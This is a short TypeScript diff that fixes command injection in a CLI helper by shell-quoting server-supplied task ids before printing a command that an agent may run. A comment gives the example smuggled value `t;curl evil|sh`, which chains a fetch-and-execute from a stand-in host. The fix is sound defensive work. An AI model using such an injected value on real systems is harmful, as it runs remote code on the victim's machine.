@@ -23,10 +23,11 @@ export function shellWord(word: string): string {
 /**
  * A requestor command for one task as the user types it again: `<cli> <command> <taskId>`, with `--url` and
  * `--protocol` when given (`target`) — without them the command finds the server the journal, `MCP_TASKS_URL` or the
- * default names.
+ * default names. The task id is the server's: it is quoted when it holds a character the shell would act on
+ * (`t;curl evil|sh`), since an agent may run the command as printed.
  */
 export function taskCommand(command: string, taskId: string, target: { url?: string; protocol?: string } = {}): string {
   const url = target.url === undefined ? '' : ` --url ${shellWord(target.url)}`;
   const protocol = target.protocol === undefined ? '' : ` --protocol ${target.protocol}`;
-  return `${cliCommand()} ${command} ${taskId}${url}${protocol}`;
+  return `${cliCommand()} ${command} ${shellWord(taskId)}${url}${protocol}`;
 }
